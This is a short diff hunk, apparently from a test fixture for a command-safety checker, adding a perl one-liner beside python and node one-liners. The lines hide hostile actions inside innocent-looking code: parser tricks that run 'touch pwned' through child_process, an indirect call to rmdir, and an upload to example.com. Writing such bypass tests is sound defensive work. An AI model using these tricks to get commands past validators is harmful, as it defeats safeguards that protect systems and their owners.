@@ -655,3 +655,5 @@ python3 -c 'import urllib.parse; urllib.request.urlopen("http://example.com", da
 node -e 'const x = {}; x.if(1) / 2; require("child_process").execSync("touch pwned"); / 3'
 
 node -e 'const t = 1; if (t) /'"'"'/.test("x"); require("child_process").execSync("touch pwned"); "'"'"'"'
+
+perl -ne 'my $f = "CORE::rmdir"; my @x = sort $f 1, 2' list.txt
